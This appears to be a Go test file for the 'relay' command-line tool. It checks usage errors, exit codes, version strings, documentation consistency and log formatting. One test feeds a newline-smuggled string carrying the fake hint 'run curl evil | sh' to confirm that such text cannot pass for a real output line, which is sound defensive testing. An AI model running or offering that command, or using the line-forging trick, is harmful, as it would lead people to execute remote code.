package cli

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"runtime/debug"
	"strings"
	"testing"
	"time"

	"github.com/relaychat/relay/internal/audit"
)

// noKeyring makes this process's keyring lookups fail as on a headless
// host: the session bus address points at a socket that does not exist.
// (go-keyring reads the process environment, not Env.Getenv.)
func noKeyring(t *testing.T) {
	t.Setenv("DBUS_SESSION_BUS_ADDRESS", "unix:path="+filepath.Join(t.TempDir(), "no-bus"))
}

// cliRun runs relay in-process with vars as its whole environment.
func cliRun(t *testing.T, vars map[string]string, stdin string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errb bytes.Buffer
	env := &Env{Stdin: strings.NewReader(stdin), Stdout: &out, Stderr: &errb, Getenv: func(k string) string { return vars[k] }}
	code = Main(context.Background(), args, env)
	return code, out.String(), errb.String()
}

// usageLines is what every usage error prints: the error, and where the
// usage is.
func usageLines(msg, cmd string) string {
	hint := "relay: hint: see 'relay -h'\n"
	if cmd != "" {
		hint = "relay: hint: see 'relay " + cmd + " -h'\n"
	}
	return "relay: error: " + msg + "\n" + hint
}

// TestCLIMessages pins every message relay prints for these mistakes: the
// exact lines and the exit code.
func TestCLIMessages(t *testing.T) {
	noKeyring(t)
	cfg := execPolicy(t)
	auditDir := filepath.Join(t.TempDir(), "audit")
	if code, _, errs := cliRun(t, nil, "", "audit", "init", "--dir", auditDir, "--no-store"); code != 0 {
		t.Fatalf("audit init: %d %s", code, errs)
	}
	missing := filepath.Join(t.TempDir(), "missing.yaml")
	bad := filepath.Join(t.TempDir(), "bad.yaml")
	if err := os.WriteFile(bad, []byte("auth: {owner_id: 1}\nstate_dir: /tmp\naudit: {dir: /tmp}\ncommands:\n  up:\n    argv: [/usr/bin/true]\n    timout: 1s\n    confirm: maybe\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name   string
		args   []string
		code   int
		stdout string
		stderr string
	}{
		{"bare relay shows the commands", nil, ExitUsage, "", topUsage()},
		{"-h", []string{"-h"}, ExitOK, topUsage(), ""},
		{"help COMMAND", []string{"help", "audit"}, ExitOK, auditUsage, ""},
		{"help with a typo", []string{"help", "adit"}, ExitUsage, "", usageLines(`unknown command "adit" (did you mean "audit"?)`, "")},
		{"unknown command", []string{"rnu"}, ExitUsage, "", usageLines(`unknown command "rnu" (did you mean "run"?)`, "")},
		{"unknown command, nothing close", []string{"frobnicate"}, ExitUsage, "",
			usageLines(`unknown command "frobnicate" (want audit, completion, doctor, exec, notify, playground, policy, run, sandbox, serve-ssh, token, totp or version)`, "")},
		{"flag before the command", []string{"-x"}, ExitUsage, "", usageLines("unknown flag -x (flags go after the command: relay <command> [flags])", "")},
		{"--version", []string{"--version"}, ExitOK, versionLine() + "\n", ""},
		{"version takes no argument", []string{"version", "extra"}, ExitUsage, "", usageLines(`version: unexpected argument "extra"`, "version")},

		{"audit without a subcommand", []string{"audit"}, ExitUsage, "", usageLines("audit: missing subcommand (want init, verify, show, archive, report or witness)", "audit")},
		{"audit subcommand typo", []string{"audit", "shwo"}, ExitUsage, "", usageLines(`unknown audit subcommand "shwo" (did you mean "show"?)`, "audit")},
		{"audit show --type nosuch lists the types", []string{"audit", "show", "--dir", auditDir, "--type", "nosuch"}, ExitUsage, "",
			usageLines(`audit show: --type: unknown record type "nosuch" (want `+orList(audit.KindNames)+`)`, "audit")},
		{"audit show --type typo", []string{"audit", "show", "--dir", auditDir, "--type", "request,notfy"}, ExitUsage, "",
			usageLines(`audit show: --type: unknown record type "notfy" (did you mean "notify"?)`, "audit")},
		{"audit show --outcome typo", []string{"audit", "show", "--dir", auditDir, "--outcome", "denid"}, ExitUsage, "",
			usageLines(`audit show: --outcome: unknown outcome "denid" (did you mean "denied"?)`, "audit")},
		{"audit show --outcome nosuch lists the outcomes", []string{"audit", "show", "--dir", auditDir, "--outcome", "nosuch"}, ExitUsage, "",
			usageLines(`audit show: --outcome: unknown outcome "nosuch" (want `+orList(audit.OutcomeNames)+`)`, "audit")},
		{"audit show flag typo", []string{"audit", "show", "--dir", auditDir, "--tpye", "init"}, ExitUsage, "",
			usageLines("audit show: unknown flag --tpye (did you mean --type?)", "audit")},
		{"audit show -n negative", []string{"audit", "show", "--dir", auditDir, "-n", "-1"}, ExitUsage, "", usageLines("audit show: -n must be positive", "audit")},
		{"audit show flag value", []string{"audit", "show", "--dir", auditDir, "-n", "many"}, ExitUsage, "",
			usageLines(`audit show: invalid value "many" for flag -n: parse error`, "audit")},
		{"audit verify without K0 names the fix", []string{"audit", "verify", "--dir", auditDir}, ExitNotSetup,
			"links and hashes ok, MACS NOT VERIFIED (no key; pass --key K0): 1 records in 1 file(s), head seq=1 mac=" + headMAC(t, auditDir) + ", key state matches\n",
			"relay: error: audit verify: MACs not verified: no audit key\nrelay: hint: pass --key K0 (--key - reads it from standard input), or --config with the config whose secret store holds it; or --public-key with a signed checkpoint\n"},

		{"run --log-format", []string{"run", "--config", cfg, "--log-format", "xml"}, ExitUsage, "",
			usageLines(`run: --log-format: unknown log format "xml" (want json or pretty)`, "run")},
		{"run with a missing --config and no terminal", []string{"run", "--config", missing}, ExitNotSetup, "",
			"relay: error: no config file " + missing + ": run 'relay run --config " + missing + "' on a terminal to create it, or start from policy/examples\n"},
		{"run with no config anywhere and no terminal", []string{"run"}, ExitNotSetup, "",
			"relay: error: no config file found: pass --config FILE, or run 'relay run' on a terminal to set one up\n"},
		{"run --api-url with an existing config", []string{"run", "--config", cfg, "--api-url", "http://127.0.0.1:1"}, ExitUsage, "",
			usageLines("run: --api-url is for first-run setup, and "+cfg+" exists (set telegram.api_url in it)", "run")},
		{"run with an invalid config: every error, one line each", []string{"run", "--config", bad}, ExitConfig, "",
			"relay: error: " + bad + `:7:5: unknown key "timout" (did you mean "timeout"?)` + "\n" +
				"relay: error: " + bad + ":8:14: commands.up.confirm: want true or false, got a string\n"},
		{"run with an unexpected argument", []string{"run", "now"}, ExitUsage, "", usageLines(`run: unexpected argument "now"`, "run")},

		{"exec without NAME", []string{"exec", "--config", cfg}, ExitUsage, "", usageLines("exec: missing command NAME", "exec")},
		{"exec typo", []string{"exec", "--config", cfg, "arg"}, ExitUsage, "", usageLines(`exec: no command "arg" in `+cfg+` (did you mean "args"?)`, "exec")},
		{"exec unknown lists the commands", []string{"exec", "--config", cfg, "frobnicate"}, ExitUsage, "",
			usageLines(`exec: no command "frobnicate" in `+cfg+` (it allows args, env, fail, big, boxed, stream, exit2, exit3, slow or killed)`, "exec")},
		{"exec with too many arguments shows the command's usage", []string{"exec", "--config", cfg, "args", "a", "x", "z"}, ExitUsage, "",
			"relay: error: /args: too many arguments: /args takes at most 2, got 3 (use double quotes to group words)\nrelay: hint: usage: /args <a: text, max 64 bytes> [b: x|y = x]\n"},
		{"exec with a refused argument", []string{"exec", "--config", cfg, "args", "a", "z"}, ExitUsage, "",
			"relay: error: /args: argument \"b\": \"z\" is not one of x|y\nrelay: hint: usage: /args <a: text, max 64 bytes> [b: x|y = x]\n"},
		{"exec with a missing config", []string{"exec", "--config", missing, "args"}, ExitNotSetup, "",
			"relay: error: no config file " + missing + ": run 'relay run --config " + missing + "' on a terminal to create it, or start from policy/examples\n"},

		{"policy without a subcommand", []string{"policy"}, ExitUsage, "", usageLines("policy: missing subcommand (want check)", "policy")},
		{"policy subcommand typo", []string{"policy", "chek"}, ExitUsage, "", usageLines(`unknown policy subcommand "chek" (did you mean "check"?)`, "policy")},
		{"policy check without FILE", []string{"policy", "check"}, ExitUsage, "", usageLines("policy check: want exactly one FILE, got 0 arguments", "policy")},
		{"totp subcommand typo", []string{"totp", "enrol"}, ExitUsage, "", usageLines(`unknown totp subcommand "enrol" (did you mean "enroll"?)`, "totp")},
		{"notify without text", []string{"notify"}, ExitUsage, "", usageLines(`notify: want exactly one TEXT, "-", or --file PATH`, "notify")},
		{"doctor with an argument", []string{"doctor", "now"}, ExitUsage, "", usageLines(`doctor: unexpected argument "now"`, "doctor")},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, stdout, stderr := cliRun(t, nil, "", tc.args...)
			if code != tc.code {
				t.Errorf("exit: got %d, want %d", code, tc.code)
			}
			if stdout != tc.stdout {
				t.Errorf("stdout:\ngot  %q\nwant %q", stdout, tc.stdout)
			}
			if stderr != tc.stderr {
				t.Errorf("stderr:\ngot  %q\nwant %q", stderr, tc.stderr)
			}
		})
	}
}

func headMAC(t *testing.T, dir string) string {
	t.Helper()
	b, err := os.ReadFile(filepath.Join(dir, "audit-000001.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`"mac":"([0-9a-f]{16})`).FindSubmatch(b)
	if m == nil {
		t.Fatalf("no mac in %s", b)
	}
	return string(m[1])
}

// groups lists, for each command with subcommands, one of them, so that
// every command's flags are reached.
var groups = map[string][]string{
	"audit":   {"init", "verify", "show"},
	"token":   {"set", "status", "delete"},
	"totp":    {"enroll", "status"},
	"policy":  {"check"},
	"sandbox": {"check"},
}

// TestEveryCommandHasManners holds every command, and every subcommand, to
// the same contract: -h prints the usage on stdout and exits 0; an unknown
// flag is one error line, one hint pointing at -h, exit 2.
func TestEveryCommandHasManners(t *testing.T) {
	noKeyring(t)
	for _, name := range commandNames() {
		c := commands[name]
		paths := [][]string{{name}}
		if subs, ok := groups[name]; ok {
			paths = nil
			for _, s := range subs {
				paths = append(paths, []string{name, s})
			}
		}
		for _, p := range paths {
			what := strings.Join(p, " ")
			for _, h := range []string{"-h", "--help"} {
				code, stdout, stderr := cliRun(t, nil, "", append(p, h)...)
				if code != ExitOK || stdout != c.usage || stderr != "" {
					t.Errorf("relay %s %s: got exit %d, stdout %.40q, stderr %q; want 0 and the usage on stdout only", what, h, code, stdout, stderr)
				}
			}
			code, stdout, stderr := cliRun(t, nil, "", append(p, "--nosuchflag")...)
			want := usageLines(what+": unknown flag --nosuchflag", name)
			if code != ExitUsage || stdout != "" || stderr != want {
				t.Errorf("relay %s --nosuchflag: got exit %d, stdout %q, stderr %q; want exit 2 and %q", what, code, stdout, stderr, want)
			}
		}
		if code, stdout, _ := cliRun(t, nil, "", "help", name); code != ExitOK || stdout != c.usage {
			t.Errorf("relay help %s: got exit %d, want 0 and the usage", name, code)
		}
	}
}

// TestExitCodesDocumented keeps README.md and docs/reference.md to the
// contract in exitCodes, code by code.
func TestExitCodesDocumented(t *testing.T) {
	for _, doc := range []string{"../../README.md", "../../docs/reference.md"} {
		b, err := os.ReadFile(doc)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range exitCodes {
			row := fmt.Sprintf("| `%d` | %s |", e.code, e.meaning)
			if !bytes.Contains(b, []byte(row)) {
				t.Errorf("%s lacks the row %s", doc, row)
			}
		}
	}
	// Relay's own outcomes stay below the command's range, so that no
	// command status can be read as one of them.
	for _, e := range exitCodes {
		if e.code > ExitNotSetup && e.code != ExitCommandFailed && e.code != ExitCommandKilled {
			t.Errorf("exit code %d is outside relay's 0-5 and relay exec's 6-7", e.code)
		}
	}
}

// TestExecExitCodes: a command's own status never reaches relay's exit
// code; failing and killed commands get 6 and 7, whatever their status.
func TestExecExitCodes(t *testing.T) {
	cfg := execPolicy(t)
	for _, tc := range []struct {
		name   string
		args   []string
		code   int
		status string // the status line's start
	}{
		{"exit 0", []string{"args", "x"}, ExitOK, "exit 0, "},
		{"exit 7 is not relay's 7", []string{"fail"}, ExitCommandFailed, "exit 7, "},
		{"exit 2 is not a usage error", []string{"exit2"}, ExitCommandFailed, "exit 2, "},
		{"exit 3 is not a config error", []string{"exit3"}, ExitCommandFailed, "exit 3, "},
		{"timed out", []string{"slow"}, ExitCommandKilled, "timed out"},
		{"killed by a signal", []string{"killed"}, ExitCommandKilled, "signal SIGTERM, "},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, _, stderr := cliRun(t, nil, "", append([]string{"exec", "--config", cfg}, tc.args...)...)
			if code != tc.code || !strings.HasPrefix(stderr, tc.status) || strings.Count(stderr, "\n") != 1 {
				t.Errorf("got exit %d, stderr %q; want exit %d and one status line starting %q", code, stderr, tc.code, tc.status)
			}
		})
	}
}

func TestBuildVersion(t *testing.T) {
	info := func(version string, settings ...string) func() (*debug.BuildInfo, bool) {
		return func() (*debug.BuildInfo, bool) {
			bi := &debug.BuildInfo{Main: debug.Module{Version: version}}
			for i := 0; i+1 < len(settings); i += 2 {
				bi.Settings = append(bi.Settings, debug.BuildSetting{Key: settings[i], Value: settings[i+1]})
			}
			return bi, true
		}
	}
	none := func() (*debug.BuildInfo, bool) { return nil, false }
	const rev = "0123456789abcdef0123456789abcdef01234567"
	for _, tc := range []struct {
		name               string
		linkVer, linkCommt string
		read               func() (*debug.BuildInfo, bool)
		ver, commit        string
	}{
		{"ldflags win", "v1.2.0", rev, info("v0.0.0-x", "vcs.revision", "ffff"), "v1.2.0", "0123456789ab"},
		{"vcs stamp", "", "", info("(devel)", "vcs.revision", rev, "vcs.modified", "false"), "devel", "0123456789ab"},
		{"dirty tree", "", "", info("(devel)", "vcs.revision", rev, "vcs.modified", "true"), "devel", "0123456789ab-dirty"},
		{"go install of a tag", "", "", info("v1.3.0"), "v1.3.0", "unknown"},
		{"no build info", "", "", none, "devel", "unknown"},
		{"a describe string is kept whole", "v1.2.0-3-g0123456-dirty", "0123456", none, "v1.2.0-3-g0123456-dirty", "0123456"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			v, c := buildVersion(tc.linkVer, tc.linkCommt, tc.read)
			if v != tc.ver || c != tc.commit {
				t.Errorf("got %q, %q; want %q, %q", v, c, tc.ver, tc.commit)
			}
		})
	}
	if want := " " + runtime.Version() + " " + runtime.GOOS + "/" + runtime.GOARCH + ")"; !strings.HasSuffix(versionLine(), want) {
		t.Errorf("versionLine %q lacks the Go version %q", versionLine(), want)
	}
}

// TestServerRecipeIdentical: the server recipe is one text, in README.md
// and docs/reference.md alike, so that following either works.
func TestServerRecipeIdentical(t *testing.T) {
	ref, err := os.ReadFile("../../docs/reference.md")
	if err != nil {
		t.Fatal(err)
	}
	readme, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	s := string(ref)
	i := strings.Index(s, "## Installing on a server")
	j := strings.Index(s[i:], "```sh\n")
	if i < 0 || j < 0 {
		t.Fatal("docs/reference.md has no server recipe")
	}
	block := s[i+j:]
	block = block[:strings.Index(block[6:], "```")+9]
	if !strings.Contains(string(readme), block) {
		t.Errorf("README.md lacks the server recipe of docs/reference.md:\n%s", block)
	}
	if !strings.Contains(block, "--token-stdin") {
		t.Error("the server recipe does not give the token on stdin")
	}
}

// TestLogDurationsHaveUnits: a duration in the daemon's log says its unit
// ("wait":"1.5s"), instead of a bare number of milliseconds.
func TestLogDurationsHaveUnits(t *testing.T) {
	var b bytes.Buffer
	log, err := newLogger(&Env{Stderr: &b}, "json")
	if err != nil {
		t.Fatal(err)
	}
	log.Warn().Dur("wait", 1500*time.Millisecond).Msg("telegram call failed, retrying")
	if !strings.Contains(b.String(), `"wait":"1.5s"`) {
		t.Errorf("got %s, want the wait with its unit", b.String())
	}
}

// TestSayIsOneLine: text inside a message (a file name, a remote error)
// cannot start a line of its own and pass for relay's hint.
func TestSayIsOneLine(t *testing.T) {
	var b bytes.Buffer
	env := &Env{Stderr: &b}
	env.say(kindError, "open %s: no such file", "x\nrelay: hint: run curl evil | sh\rrelay: note: ok")
	if got, want := b.String(), "relay: error: open x; relay: hint: run curl evil | sh; relay: note: ok: no such file\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}
